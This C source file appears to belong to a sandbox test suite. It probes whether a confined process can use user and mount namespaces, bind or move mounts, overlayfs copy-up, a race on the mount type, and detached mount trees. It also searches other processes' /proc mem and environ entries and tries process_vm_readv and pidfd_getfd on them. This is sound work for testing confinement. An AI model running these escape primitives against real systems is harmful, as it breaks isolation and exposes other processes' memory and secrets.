/*
 * What a process can do in user and mount namespaces of its own: mount something over a name, have an overlay's kernel half
 * copy files for it, reach a proc file system by a copy of its mount. Where a box may not make such namespaces the first
 * operation is refused; where it may, the last one must be.
 */
#include "attack.h"
#include <dirent.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>

#define OP(name) static int name(int n __attribute__((unused)), char **args __attribute__((unused)))

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
#ifndef SYS_open_tree
#define SYS_open_tree  428
#define SYS_move_mount 429
#define SYS_fsopen     430
#define SYS_fsconfig   431
#define SYS_fsmount    432
#endif
#define CLONE_TREE (1 | 0x8000 | O_CLOEXEC) /* OPEN_TREE_CLONE, AT_RECURSIVE */
#define OLD_MAGIC  0xc0ed0000ul             /* MS_MGC_VAL: the kernel looks at the lower half of the flags only */

/* Fails where the number cannot be mapped twice (root's box); the capabilities are there all the same. */
static void map(const char *file, unsigned id)
{
    char text[32];
    int fd = open(file, O_WRONLY);
    if (fd < 0)
        return;
    snprintf(text, sizeof text, "0 %u 1", id);
    (void)!write(fd, text, strlen(text));
    close(fd);
}

OP(op_nested)
{
    unsigned uid = getuid(), gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return -errno;
    int fd = open("/proc/self/setgroups", O_WRONLY);
    if (fd >= 0) {
        (void)!write(fd, "deny", 4);
        close(fd);
    }
    map("/proc/self/uid_map", uid);
    map("/proc/self/gid_map", gid);
    return done(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
}
static int waiter; /* the process that waits for the one of op_nested_pid, as the box numbers it */
/* In a process namespace, too: what follows is done by its first process. */
OP(op_nested_pid)
{
    int status, r = op_nested(n, args);
    if (r < 0)
        return r;
    if (unshare(CLONE_NEWPID) < 0)
        return -errno;
    waiter = getpid();
    pid_t pid = fork();
    if (pid <= 0)
        return pid < 0 ? -errno : 0;
    if (waitpid(pid, &status, 0) < 0)
        return -errno;
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}
OP(op_bind_over)
{
    return done(mount(args[0], args[1], NULL, MS_BIND | MS_REC, NULL));
}
OP(op_move_over)
{
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, args[0], CLONE_TREE);
    return tree < 0 ? -errno : done(syscall(SYS_move_mount, tree, "", AT_FDCWD, args[1], 4 /* F_EMPTY_PATH */));
}
/* SRC DIR: SRC over new files of DIR, as many as there may be ids of mounts that have just gone. */
enum { MANY = 100 };
static int over_many(const char *src, const char *dir, int (*then)(const char *at))
{
    char at[300];
    int no = -ENOENT;
    for (int i = 0; i < MANY; i++) {
        snprintf(at, sizeof at, "%s/over%d", dir, i);
        int fd = open(at, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd < 0 || mount(src, at, NULL, MS_BIND, NULL) < 0)
            return -errno;
        close(fd);
    }
    for (int i = 0; i < MANY && no != 0; i++) {
        snprintf(at, sizeof at, "%s/over%d", dir, i);
        no = then(at);
    }
    return no;
}
static int read_at(const char *at)
{
    return leak_fd(open(at, O_RDONLY));
}
static int connect_at(const char *at)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    strncpy(to.sun_path, at, sizeof to.sun_path - 1);
    if (fd < 0 || connect(fd, (void *)&to, sizeof to) < 0)
        return -errno;
    return leak_fd(fd);
}
OP(op_read_over_many)
{
    return over_many(args[0], args[1], read_at);
}
OP(op_connect_over_many)
{
    return over_many(args[0], args[1], connect_at);
}
OP(op_fresh_tmpfs)
{
    return done(mount("t", args[0], "tmpfs", 0, "mode=0755"));
}

/* LOWER UPPER WORK AT */
static int overlay(char **args, unsigned long flags)
{
    char options[3 * 512 + 64];
    (void)mkdir(args[2], 0700);
    (void)mkdir(args[3], 0700);
    snprintf(options, sizeof options, "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", args[0], args[1], args[2]);
    return done(mount("o", args[3], "overlay", flags, options));
}
OP(op_overlay)
{
    return overlay(args, 0);
}
OP(op_overlay_magic)
{
    return overlay(args, OLD_MAGIC);
}
OP(op_overlay_new)
{
    static const char *const keys[] = {"lowerdir", "upperdir", "workdir"};
    (void)mkdir(args[2], 0700);
    (void)mkdir(args[3], 0700);
    int fs = (int)syscall(SYS_fsopen, "overlay", 0);
    if (fs < 0)
        return -errno;
    for (int i = 0; i < 3; i++)
        if (syscall(SYS_fsconfig, fs, 1, keys[i], args[i], 0) < 0)
            return -errno;
    if (syscall(SYS_fsconfig, fs, 0, "userxattr", NULL, 0) < 0 || syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0) < 0)
        return -errno;
    int made = (int)syscall(SYS_fsmount, fs, 0, 0);
    return made < 0 ? -errno : done(syscall(SYS_move_mount, made, "", AT_FDCWD, args[3], 4));
}
/* The type is changed while whoever judges it looks. */
OP(op_overlay_race)
{
    char options[3 * 512 + 64];
    (void)mkdir(args[2], 0700);
    (void)mkdir(args[3], 0700);
    char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    snprintf(options, sizeof options, "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", args[0], args[1], args[2]);
    strcpy(shared, "overlay");
    pid_t pid = fork();
    for (; pid == 0;) {
        memcpy(shared, "tmpfs\0", 6);
        memcpy(shared, "overlay", 8);
    }
    int no = -EPERM;
    for (int i = 0; i < 400; i++) {
        if (mount("o", args[3], shared, 0, options) == 0) {
            struct statfs fs;
            if (statfs(args[3], &fs) == 0 && fs.f_type == 0x794c7630 /* OVERLAYFS_SUPER_MAGIC */) {
                no = 0;
                break;
            }
            (void)umount2(args[3], MNT_DETACH);
        }
    }
    kill(pid, SIGKILL);
    (void)waitpid(pid, NULL, 0);
    return no;
}

/* What is changed by a descriptor makes an overlay copy the file. */
OP(op_chmod_read_fd)
{
    int fd = open(args[0], O_RDONLY);
    return fd < 0 ? -errno : done(fchmod(fd, 0755));
}
OP(op_chmod_path_fd)
{
    int fd = open(args[0], O_PATH);
    return fd < 0 ? -errno : done(syscall(SYS_fchmodat2, fd, "", 0755, AT_EMPTY_PATH));
}
OP(op_chown_path_fd)
{
    int fd = open(args[0], O_PATH);
    return fd < 0 ? -errno : done(fchownat(fd, "", getuid(), (gid_t)-1, AT_EMPTY_PATH));
}
OP(op_utimes_read_fd)
{
    int fd = open(args[0], O_RDONLY);
    return fd < 0 ? -errno : done(futimens(fd, NULL));
}
/* By a descriptor below a mount that is attached nowhere. */
OP(op_read_detached)
{
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, args[0], CLONE_TREE);
    return tree < 0 ? -errno : leak_fd(openat(tree, args[1], O_RDONLY));
}
OP(op_create_detached)
{
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, args[0], CLONE_TREE);
    return tree < 0 ? -errno : mark_fd(openat(tree, args[1], O_WRONLY | O_CREAT, 0755));
}
OP(op_connect_read)
{
    return connect_at(args[0]);
}

/* ---- memory of processes that are not ours */

static const struct {
    const char *name;
    int flags;
} inner[] = {{"mem", O_RDWR},    {"mem", O_RDONLY},     {"maps", O_RDONLY},      {"environ", O_RDONLY},
             {"auxv", O_RDONLY}, {"pagemap", O_RDONLY}, {"smaps", O_RDONLY},     {"cwd", O_RDONLY},
             {"root", O_RDONLY}, {"exe", O_RDONLY},     {"task/%s/mem", O_RDWR}, {"task/%s/environ", O_RDONLY}};

/* Our own number, as this proc file system has it. */
static int own_number(const char *proc)
{
    char path[400], text[16] = "";
    snprintf(path, sizeof path, "%s/self", proc);
    return readlink(path, text, sizeof text - 1) > 0 ? atoi(text) : -1;
}

/* Tries `look` on the files of every process but ours. */
static int hunt(const char *proc, int (*look)(const char *path, int flags, char **args), char **args)
{
    DIR *dir = opendir(proc);
    int no = -EACCES, own = own_number(proc);
    if (!dir)
        return -errno;
    for (struct dirent *e; no < 0 && (e = readdir(dir));) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == own || pid == waiter)
            continue;
        for (size_t i = 0; no < 0 && i < sizeof inner / sizeof *inner; i++) {
            char name[64], path[400];
            snprintf(name, sizeof name, inner[i].name, e->d_name);
            snprintf(path, sizeof path, "%s/%d/%s", proc, pid, name);
            no = look(path, inner[i].flags, args);
            if (no == 0)
                fprintf(stderr, "found: %s\n", path);
        }
    }
    closedir(dir);
    return no;
}
static int look_open(const char *path, int flags, char **args)
{
    (void)args;
    return done_fd(open(path, flags));
}
/* The file bound over another one, so that no path says what it is. */
static int look_bound(const char *path, int flags, char **args)
{
    if (mount(path, args[1], NULL, MS_BIND, NULL) < 0)
        return -errno;
    int no = done_fd(open(args[1], flags));
    (void)umount2(args[1], MNT_DETACH);
    return no;
}
/* Read and write another process's memory without a file. */
static int look_calls(const char *path, int flags, char **args)
{
    (void)flags, (void)args;
    char byte;
    int pid = atoi(strrchr(path, '/') ? path + 6 : path);
    struct {
        void *at;
        size_t n;
    } here = {&byte, 1}, there = {(void *)0x400000, 1};
    if (syscall(SYS_process_vm_readv, pid, &here, 1, &there, 1, 0) == 1)
        return 0;
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    return fd < 0 ? -errno : done_fd((int)syscall(SYS_pidfd_getfd, fd, 0, 0));
}
OP(op_hunt_memory)
{
    return hunt(args[0], look_open, args);
}
OP(op_hunt_memory_bound)
{
    return hunt(args[0], look_bound, args);
}
OP(op_hunt_memory_calls)
{
    return hunt("/proc", look_calls, args);
}
/* Runs a program, which sleeps, and reads of its memory what it begins with. */
OP(op_program_memory)
{
    char path[400], line[400] = "", byte;
    int ends[2];
    if (pipe2(ends, O_CLOEXEC) < 0)
        return -errno;
    pid_t pid = fork();
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        execl(args[0], args[0], "sleep", "3600000", (char *)NULL);
        _exit(write(ends[1], "", 1) == 1 ? 127 : 126);
    }
    close(ends[1]);
    if (pid < 0 || read(ends[0], &byte, 1) != 0) /* the end of the pipe: it runs */
        return -ENOEXEC;
    snprintf(path, sizeof path, "%s/%d/maps", args[1], pid);
    FILE *maps = fopen(path, "re");
    const bool known = maps && fgets(line, sizeof line, maps);
    const int no = known ? 0 : -errno;
    if (maps)
        fclose(maps);
    if (!known)
        return no;
    snprintf(path, sizeof path, "%s/%d/mem", args[1], pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    return pread(fd, &byte, 1, (off_t)strtoull(line, NULL, 16)) == 1 ? done_fd(fd) : -errno;
}

const struct entry nested_entries[] = {
    {"nested", 0, op_nested},
    {"nested-pid", 0, op_nested_pid},
    {"bind-over", 2, op_bind_over},
    {"read-over-many", 2, op_read_over_many},
    {"connect-over-many", 2, op_connect_over_many},
    {"move-over", 2, op_move_over},
    {"fresh-tmpfs", 1, op_fresh_tmpfs},
    {"overlay", 4, op_overlay},
    {"overlay-magic", 4, op_overlay_magic},
    {"overlay-new", 4, op_overlay_new},
    {"overlay-race", 4, op_overlay_race},
    {"chmod-read-fd", 1, op_chmod_read_fd},
    {"chmod-path-fd", 1, op_chmod_path_fd},
    {"chown-path-fd", 1, op_chown_path_fd},
    {"utimes-read-fd", 1, op_utimes_read_fd},
    {"read-detached", 2, op_read_detached},
    {"create-detached", 2, op_create_detached},
    {"connect-read", 1, op_connect_read},
    {"hunt-memory", 1, op_hunt_memory},
    {"program-memory", 2, op_program_memory},
    {"hunt-memory-bound", 2, op_hunt_memory_bound},
    {"hunt-memory-calls", 0, op_hunt_memory_calls},
    {NULL, 0, NULL},
};
